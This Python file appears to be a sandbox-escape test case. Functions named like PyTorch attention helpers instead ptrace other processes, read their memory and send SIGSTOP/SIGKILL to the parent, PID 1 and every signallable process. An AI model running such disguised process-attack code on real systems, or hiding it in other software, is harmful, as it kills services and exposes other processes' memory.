"""Stops, kills and traces its parent, process 1 and everything else that has a process id.

levels: bubblewrap user
process: not promised: your processes are its processes
outcomes: failed crashed timed_out
seconds: 2
"""

import ctypes
import os
import signal

import torch

if os.path.exists("/etc/passwd") and os.getuid() not in (65_534, *range(61_200, 63_200)):
    raise SystemExit("this attack runs inside a sandbox only")


def causal_mask(seq, device=None):
    libc = ctypes.CDLL(None)
    for pid in (os.getppid(), *range(1, 40), *range(max(2, os.getpid() - 300), os.getpid() + 50)):
        if pid in (0, os.getpid()):
            continue
        if libc.ptrace(16, pid, 0, 0) == 0:  # PTRACE_ATTACH
            print("LOOT: traced", pid)
        if libc.syscall(310, pid, None, 0, None, 0, 0) > 0:
            print("LOOT: read the memory of", pid)
        for number in (signal.SIGSTOP, signal.SIGKILL):
            try:
                os.kill(pid, number)
                print("LOOT: sent a signal to", pid)
            except OSError:
                pass
    return torch.zeros(seq, seq, dtype=torch.bool)


def scaled_dot_product_attention(*args, **kwargs):
    for number in (signal.SIGSTOP, signal.SIGKILL):
        try:
            os.kill(-1, number)  # everybody that may be signalled, this process left out
        except OSError:
            pass
    os.killpg(0, signal.SIGKILL)
